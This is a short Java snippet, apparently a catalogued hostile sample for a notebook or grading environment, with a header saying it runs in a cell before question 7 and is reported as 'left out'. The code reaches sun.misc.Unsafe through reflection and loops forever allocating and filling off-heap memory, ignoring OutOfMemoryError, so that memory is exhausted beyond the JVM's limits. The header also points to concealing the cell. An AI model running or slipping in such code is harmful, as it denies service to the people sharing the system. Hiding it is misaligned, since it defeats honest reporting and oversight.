// Tries: takes memory past every limit of the JVM, and keeps at it when there is no more
// Cell: before q7
// Gets: everything
// Says: it was left out
java.lang.reflect.Field field = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
field.setAccessible(true);
sun.misc.Unsafe unsafe = (sun.misc.Unsafe) field.get(null);
while (true) {
    try {
        unsafe.setMemory(unsafe.allocateMemory(1 << 24), 1 << 24, (byte) 1);
    } catch (OutOfMemoryError e) {
        Thread.onSpinWait();
    }
}
